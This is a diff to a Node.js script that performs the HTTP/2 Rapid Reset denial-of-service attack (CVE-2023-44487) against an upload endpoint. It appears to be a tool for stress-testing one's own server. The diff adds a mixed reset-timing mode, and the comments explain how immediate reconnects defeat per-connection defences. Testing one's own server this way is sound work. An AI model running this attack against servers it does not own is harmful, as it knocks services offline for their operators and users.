@@ -2,13 +2,14 @@
 // HTTP/2 rapid reset (CVE-2023-44487) against one upload: try it on your own server, never on anyone else's.
 //
 //   node scripts/rapid-reset.mjs <upload URL> [--clients 4] [--seconds 10] [--batch 100] [--method HEAD]
-//                                             [--reset same|later]
+//                                             [--reset same|later|both]
 //
 // Each client opens an h2c connection (prior knowledge) and writes batches of `--batch` streams, each a
 // HEADERS frame (the request, END_STREAM) and RST_STREAM(CANCEL) for it; it writes the next batch once the
 // kernel took the last one. `--reset same` (the default) puts each reset right behind its HEADERS, in one
 // packet; `--reset later` sends a batch's resets with the next batch, so that its requests reach the
-// server's handlers (and wait for the upload's lock) before they are cancelled. A server that sends GOAWAY (nghttp2 does after about
+// server's handlers (and wait for the upload's lock) before they are cancelled; `--reset both`: every
+// other client does one, the others the other. A server that sends GOAWAY (nghttp2 does after about
 // 1,000 resets on one connection) or closes the connection is reconnected to at once: that is what makes
 // the attack work against a per-connection defence. Only h2c, only `http:` URLs.
 //
@@ -36,12 +37,11 @@ const clients = wholeNumber('clients', values.clients)
 const batch = wholeNumber('batch', values.batch)
 const seconds = Number(values.seconds)
 if (!(seconds > 0)) usage('--seconds must be a positive number')
-if (values.reset !== 'same' && values.reset !== 'later') usage('--reset is same or later')
-const resetLater = values.reset === 'later'
+if (!['same', 'later', 'both'].includes(String(values.reset))) usage('--reset is same, later or both')
 
 /** @param {string} message */
 function usage(message) {
-  process.stderr.write(`rapid-reset: ${message}\nusage: node scripts/rapid-reset.mjs <upload URL> [--clients 4] [--seconds 10] [--batch 100] [--method HEAD] [--reset same|later]\n`)
+  process.stderr.write(`rapid-reset: ${message}\nusage: node scripts/rapid-reset.mjs <upload URL> [--clients 4] [--seconds 10] [--batch 100] [--method HEAD] [--reset same|later|both]\n`)
   process.exit(2)
 }
 
@@ -95,8 +95,11 @@ cancel.writeUInt32BE(CANCEL)
 const report = { streams: 0, connections: 0, goaways: /** @type {Record<string, number>} */ ({}), errors: 0 }
 let stopping = false
 
-/** One attacking connection; opens the next one when the server ends it. */
-function attack() {
+/**
+ * One attacking client's connection; opens the next one when the server ends it.
+ * @param {boolean} resetLater
+ */
+function attack(resetLater) {
   if (stopping) return
   report.connections += 1
   const socket = net.connect({ host: target.hostname, port: Number(target.port || 80), noDelay: true })
@@ -107,7 +110,7 @@ function attack() {
     if (over) return
     over = true
     socket.destroy()
-    setImmediate(attack)
+    setImmediate(attack, resetLater)
   }
   /** Resets owed for the last batch (`--reset later`). */
   /** @type {Buffer[]} */
@@ -163,4 +166,4 @@ const finish = () => {
 process.on('SIGTERM', finish)
 process.on('SIGINT', finish)
 setTimeout(finish, seconds * 1000)
-for (let i = 0; i < clients; i += 1) attack()
+for (let i = 0; i < clients; i += 1) attack(values.reset === 'later' || (values.reset === 'both' && i % 2 === 1))
